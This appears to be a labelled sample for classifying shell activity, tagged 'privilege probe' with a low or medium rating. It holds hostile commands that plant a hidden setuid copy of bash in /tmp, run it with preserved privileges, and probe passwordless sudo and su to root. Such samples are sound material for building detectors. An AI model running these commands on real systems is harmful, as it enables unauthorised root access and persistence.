# class: privilege probe; possible: low medium
cp /bin/bash /tmp/.b && chmod 4755 /tmp/.b && /tmp/.b -p -c id
sudo -n id; su -c id root </dev/null
chown root /tmp/.b
exit 0
